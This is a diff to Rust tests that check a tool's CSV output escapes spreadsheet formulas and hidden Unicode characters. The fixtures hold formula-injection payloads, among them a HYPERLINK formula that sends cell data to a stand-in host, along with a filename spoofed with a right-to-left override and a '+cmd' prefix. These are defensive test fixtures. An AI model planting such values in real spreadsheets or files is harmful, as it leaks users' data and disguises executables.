@@ -129,7 +129,8 @@ fn results_are_private_and_csv_never_starts_a_formula() {
     has(&r.stderr, "you share 4");
     assert_eq!(
         env.read("a.csv"),
-        "kind,value\r\nraw,'=1+1\r\nraw,'@SUM(A1)\r\nraw,'-x\r\nraw,plain\r\n"
+        "kind,value,file,line\r\nraw,'=1+1,alice.txt,1\r\nraw,'@SUM(A1),alice.txt,2\r\nraw,'-x,alice.txt,3\r\n\
+         raw,plain,alice.txt,4\r\n"
     );
     assert_eq!(mode_of(&env, "a.csv"), 0o600);
     ok(finish(&env, &b, "r3", &["-o", "b.txt"]), "finish");
@@ -163,10 +164,10 @@ fn catalog_labels_are_escaped_and_never_formulas() {
     let csv = env.ok(&argv(&format!("finish ans -i {cid} --state-dir {cdir} --format csv")));
     assert_eq!(
         csv.stdout,
-        "kind,value,label\r\n\
-         domain,evil.example,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"click\"\")\"\r\n\
-         domain,bad.example,good\\u{202e}txt.exe\\u{200b}\r\n\
-         domain,worse.example,'+cmd\r\n"
+        "kind,value,file,line,label\r\n\
+         domain,evil.example,carol.txt,1,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A2,\"\"click\"\")\"\r\n\
+         domain,bad.example,carol.txt,2,good\\u{202e}txt.exe\\u{200b}\r\n\
+         domain,worse.example,carol.txt,3,'+cmd\r\n"
     );
     for bad in ['\u{202e}', '\u{200b}'] {
         assert!(!csv.stdout.contains(bad), "{bad:?} printed raw");
